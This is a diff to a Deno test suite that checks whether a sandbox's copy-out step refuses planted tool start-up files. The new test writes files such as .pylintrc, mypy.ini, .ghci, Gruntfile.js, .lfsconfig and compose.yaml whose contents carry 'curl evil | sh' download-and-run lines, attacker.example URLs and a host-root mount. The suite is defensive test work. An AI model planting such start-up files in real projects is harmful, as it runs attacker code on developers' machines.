@@ -182,6 +182,67 @@ detail = "planted"`),
     }
   }),
 });
+/**
+ * Start-up and configuration files of tools a name-by-name list lacked (an attacker's review:
+ * pylint's init-hook, mypy's plugins, GHCi, IEx, the OCaml toplevel, Grunt, gulp, git-lfs), and
+ * more of the same class: any dot name, file names without an extension, project files and tool
+ * configuration modules, none of which the list held. Each one runs or is trusted by a tool
+ * started in out/ (or below it); one the list held would have refused the whole move.
+ */
+const START_UP_PLANTS: Record<string, string> = {
+  ".pylintrc": "[MAIN]\ninit-hook='import os; os.system(\"curl evil | sh\")'\n",
+  "pylintrc": "[MAIN]\ninit-hook='import os; os.system(\"curl evil | sh\")'\n",
+  "mypy.ini": "[mypy]\nplugins = evil_plugin.py\n",
+  "evil_plugin.py": "import os; os.system('curl evil | sh')\ndef plugin(v): return None\n",
+  ".ghci": ":! curl evil | sh\n",
+  ".iex.exs": 'System.cmd("sh", ["-c", "curl evil | sh"])\n',
+  ".ocamlinit": 'let _ = Sys.command "curl evil | sh";;\n',
+  "Gruntfile.js": "require('child_process').execSync('curl evil | sh')\n",
+  "gulpfile.js": "require('child_process').execSync('curl evil | sh')\n",
+  ".lfsconfig": "[lfs]\n\turl = https://attacker.example/lfs\n",
+  ".babelrc": '{"plugins": ["./evil_plugin.js"]}\n',
+  ".python-version": "evil\n",
+  ".pnp.cjs": "require('child_process').execSync('curl evil | sh')\n",
+  "Snakefile": "shell('curl evil | sh')\n",
+  "Dockerfile": "FROM evil\n",
+  "mix.exs": 'System.cmd("sh", ["-c", "curl evil | sh"])\n',
+  "go.work": "go 1.22\nuse ./evil\n",
+  "uv.toml": 'index-url = "https://attacker.example/simple"\n',
+  "tsconfig.json": '{"compilerOptions": {"plugins": [{"name": "./evil_plugin.js"}]}}\n',
+  "Directory.Build.props":
+    '<Project><Target Name="X" BeforeTargets="Build"><Exec Command="evil"/></Target></Project>\n',
+  "__pycache__/evil_plugin.cpython-312.pyc": "\n",
+  "MYPY.INI": "[mypy]\nplugins = evil_plugin.py\n",
+  "karma.conf.js": "require('child_process').execSync('curl evil | sh')\n",
+  "pylintrc.toml": "[tool.pylint.main]\ninit-hook = 'import os; os.system(\"curl evil | sh\")'\n",
+  "go.mod": "module evil\n\ntoolchain go1.99.0-evil\n",
+  "compose.yaml": "services: {x: {image: evil, volumes: ['/:/host']}}\n",
+  "sub/.golangci.yml": "linters-settings: {custom: {x: {path: ./evil.so}}}\n",
+};
+attack({
+  name:
+    "plant start-up files the copy-out list lacked (.pylintrc, mypy.ini, .ghci, Gruntfile.js, …)",
+  language: "python",
+  context: { output: "out/" },
+  script: py(
+    `for rel, text in json.loads(${JSON.stringify(JSON.stringify(START_UP_PLANTS))}).items():
+    path = os.path.join("out", rel)
+    os.makedirs(os.path.dirname(path), exist_ok=True)
+    open(path, "w").write(text)
+    artifacts.append("out/" + rel)
+open("out/summary.json", "w").write("{}")
+artifacts.append("out/summary.json")
+detail = "planted"`,
+  ),
+  blockedBy: [ExecError],
+  hostUnchanged: thenCleanOut(async () => {
+    const planted = [];
+    for (const rel of [...Object.keys(START_UP_PLANTS), "summary.json"]) {
+      if (await exists(join(PROJECT, "out", rel))) planted.push(rel);
+    }
+    assert.deepEqual(planted, [], `BREACH: copy-out moved out/${planted.join(", out/")}`);
+  }),
+});
 attack({
   name: "report a symlink, a FIFO and a link to a host folder as artifacts",
   language: "python",
@@ -727,4 +788,4 @@ detail = "swapped " + place`),
   }
 }
 
-Deno.test(escapeSuite("copy-out and the host", { atLeast: { sandbox: 42, noSandbox: 6 } }));
+Deno.test(escapeSuite("copy-out and the host", { atLeast: { sandbox: 43, noSandbox: 6 } }));
